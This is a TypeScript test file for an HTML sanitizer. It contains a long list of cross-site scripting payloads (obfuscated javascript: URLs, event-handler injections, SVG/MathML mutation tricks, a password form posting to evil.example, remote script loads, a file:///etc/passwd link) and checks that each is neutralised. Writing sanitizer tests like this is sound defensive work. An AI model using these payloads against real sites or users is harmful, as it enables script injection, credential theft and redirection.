import { expect, test } from 'vitest';
import { allowedAttributes, allowedTags, isSafeLink, isSafePicture } from '#kernel/html.ts';
import { cleanHtml } from './clean-html.ts';

const tab = '\t';
const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<img src="/art/banner/bay/a/wide.1.svg" onload=alert(1)>',
  '<img src="/art/../wps/member/logout">',
  '<img src="/art/%2e%2e/wps/x">',
  '<img src="https://evil.example/pixel.png">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="https://evil.example/a.png 1x, javascript:alert(1) 2x" src="/art/a.svg">',
  '<img lowsrc="javascript:alert(1)">',
  '<picture><source srcset="https://evil.example/a.png"><img src="/art/a.svg"></picture>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<template><img src=x onerror=alert(1)></template>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  `<a href="java${tab}script:alert(1)">x</a>`,
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="javascript&Tab;:alert(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="http://evil.example">x</a>',
  '<a href="https:evil.example">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://a/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="x" id="app" class="y" name="z" ping="https://evil.example">x</a>',
  '<a href="https://ok.example" target="_top" rel="opener">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p onmouseover=alert(1) onfocus=alert(1) tabindex=1 autofocus contenteditable>x</p>',
  '<div style="position:fixed;inset:0">overlay</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<video><source onerror=alert(1)></video>',
  '<video src=x onerror=alert(1) poster=javascript:alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<portal src="https://evil.example">',
  '<dialog open oncancel=alert(1)>x</dialog>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<td background="javascript:alert(1)" colspan="999999999">x</td>',
  '<table background="javascript:alert(1)"><tr><td>x</table>',
  '<table><tr><td><a href="javascript:alert(1)">x</a><img src=x onerror=alert(1)></td></tr></table>',
  '<ol start="javascript:alert(1)"><li>x</li></ol>',
  '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
  '<img alt="&quot; onerror=&quot;alert(1)" src="/art/a.svg">',
  '<img alt="<script>alert(1)</script>" src="/art/a.svg">',
  '<b <script>alert(1)</script>0',
  '<<script>alert(1)//<</script>',
  '<img """><script>alert(1)</script>">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<a href="https://ok.example/&quot;onmouseover=alert(1)">x</a>',
  `<p>${'<b>'.repeat(500)}deep${'</b>'.repeat(500)}</p>`,
];

const plainOf = (value: string) => value.replaceAll('&quot;', '"').replaceAll('&amp;', '&');

function isHarmlessPair(tag: string, name: string, value: string): boolean {
  if (!(allowedAttributes[tag] ?? []).includes(name)) return false;
  if (name === 'href') return isSafeLink(plainOf(value));
  return name !== 'src' || isSafePicture(plainOf(value));
}

/** What is wrong with the HTML, read as strictly as it can be read: each `<` opens or closes a tag that may be there. */
function harmIn(html: string): string[] {
  const harm: string[] = [];
  const rest = html.replace(/<\/?([a-z][a-z0-9]*)((?: [a-z]+="[^"<>]*")*)( \/)?>/g, (_, tag: string, pairs: string) => {
    if (!allowedTags.includes(tag)) harm.push(tag);
    for (const [pair, name = '', value = ''] of pairs.matchAll(/ ([a-z]+)="([^"]*)"/g))
      if (!isHarmlessPair(tag, name, value)) harm.push(pair);
    return '';
  });
  return /[<>]/.test(rest) ? [...harm, rest] : harm;
}

test.each(payloads)('POPUP-007 TRAP-061 %s is harmless, and a second cleaning changes nothing', (payload) => {
  const clean = cleanHtml(payload);
  expect(harmIn(clean)).toEqual([]);
  expect(cleanHtml(clean)).toBe(clean);
});

test('POPUP-007 text in the company of any payload stays harmless', () => {
  for (const payload of payloads) {
    for (const around of [
      `<p>${payload}</p>`,
      `<table><tr><td>${payload}`,
      `<a href="/x">${payload}</a>`,
      `<li ${payload}`,
    ])
      expect(harmIn(cleanHtml(around))).toEqual([]);
  }
});

test('POPUP-007 honest writing stays as it was written', () => {
  const honest =
    '<h2>Hours</h2><p>We are <strong>open</strong> &amp; <em>near</em>.<br />Call <a href="tel:+6321234567">us</a> or ' +
    '<a href="mailto:care@kislap.example">write</a>, see <a href="/help#term">the terms</a>.</p>' +
    '<ul><li>One</li></ul><ol start="3"><li>Three</li></ol>' +
    '<table><thead><tr><th scope="col">Game</th></tr></thead><tbody><tr><td colspan="2">Slots</td></tr></tbody></table>';
  expect(cleanHtml(honest)).toBe(honest);
});

test('POPUP-007 a link out of the site opens apart and tells nothing; a picture of ours waits for its turn', () => {
  expect(cleanHtml('<a href="https://ok.example/a?b=1&amp;c=2">x</a>')).toBe(
    '<a href="https://ok.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">x</a>',
  );
  expect(cleanHtml('<img src="/art/promotion/gift/a.00000000.svg" width="640" height="320">')).toBe(
    '<img src="/art/promotion/gift/a.00000000.svg" alt="" width="640" height="320" loading="lazy" />',
  );
  expect(cleanHtml('<a href="javascript:alert(1)">words stay</a>')).toBe('<a>words stay</a>');
});
